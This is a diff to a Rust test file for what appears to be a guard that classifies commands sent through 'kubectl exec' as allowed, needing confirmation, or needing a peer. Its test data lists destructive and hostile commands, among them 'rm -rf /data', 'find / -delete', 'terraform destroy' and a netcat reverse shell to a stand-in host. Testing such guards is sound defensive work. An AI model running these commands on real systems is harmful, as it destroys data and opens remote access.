@@ -30,7 +30,13 @@ fn what_is_carried_is_judged_in_place_of_the_carrier() {
         ("kubectl exec web -- terraform destroy", Decision::Peer, "terraform/destroy"),
         ("kubectl exec web -- kubectl delete ns x", Decision::Peer, "kubectl/delete-namespace"),
         ("kubectl exec web -- rm -rf /data", Decision::Confirm, "remote/delete"),
-        ("kubectl exec web -- sh -c ls", Decision::Confirm, "remote/unknown-command"),
+        ("kubectl exec web -- sh -c ls", Decision::Allow, "remote/look"),
+        ("kubectl exec web -- sh -c 'ls; cat x | sort'", Decision::Allow, "remote/look"),
+        ("kubectl exec web -- env -i ls", Decision::Allow, "remote/look"),
+        ("kubectl exec web -- busybox ls", Decision::Allow, "remote/look"),
+        ("kubectl exec web -- sh -c 'ls; $X'", Decision::Confirm, "remote/unknown-command"),
+        ("kubectl exec web -- sh -c 'ls > /etc/x'", Decision::Confirm, "remote/unknown-command"),
+        ("kubectl exec web -- bash -c 'cd /; terraform destroy'", Decision::Peer, "terraform/destroy"),
         ("kubectl exec -it web -- bash", Decision::Confirm, "remote/unknown-command"),
         ("kubectl exec web -- frobnicate", Decision::Confirm, "remote/unknown-command"),
     ] {
@@ -43,9 +49,9 @@ fn what_is_carried_is_judged_in_place_of_the_carrier() {
 
 #[test]
 fn what_hides_a_program_is_not_taken_for_the_program() {
+    let mut missed = Vec::new();
     for line in [
         "kubectl exec web -- env LS=ls rm -rf /data",
-        "kubectl exec web -- env -i ls",
         "kubectl exec web -- ss -K dst 10.0.0.1",
         "kubectl exec web -- date -s 2030-01-01",
         "kubectl exec web -- wget --post-data=x http://web",
@@ -56,7 +62,6 @@ fn what_hides_a_program_is_not_taken_for_the_program() {
         "kubectl exec web -- redis-cli -h ping FLUSHALL",
         "kubectl exec web -- nc -e sh evil 1",
         "kubectl exec web -- find / -delete",
-        "kubectl exec web -- busybox ls",
         "kubectl exec web -- sh /tmp/x.sh --version",
         "kubectl exec web -- /tmp/evil --version",
         "kubectl exec web -- ./wipe.sh --help --version",
@@ -106,8 +111,11 @@ fn what_hides_a_program_is_not_taken_for_the_program() {
         "kubectl exec web -- ceph status -o /etc/x",
     ] {
         let (said, _) = says(line);
-        assert!(said >= Decision::Confirm, "{line}");
+        if said < Decision::Confirm {
+            missed.push(line);
+        }
     }
+    assert!(missed.is_empty(), "{missed:#?}");
 }
 
 #[test]
@@ -190,7 +198,7 @@ fn reading_programs_pass() {
 proptest! {
     #[test]
     fn no_words_make_an_unlisted_program_a_listed_one(
-        program in select(vec!["frobnicate", "./ls", "/tmp/cat", "xargs", "busybox", "sudo", "timeout", "awk"]),
+        program in select(vec!["frobnicate", "./ls", "/tmp/cat", "make", "perl", "socat", "python3", "awk"]),
         words in prop::collection::vec(
             select(vec!["--version", "--help", "-v", "-t", "ls", "cat", "ping", "status", "--", "-o", "/dev/null", "x"]),
             0..6,
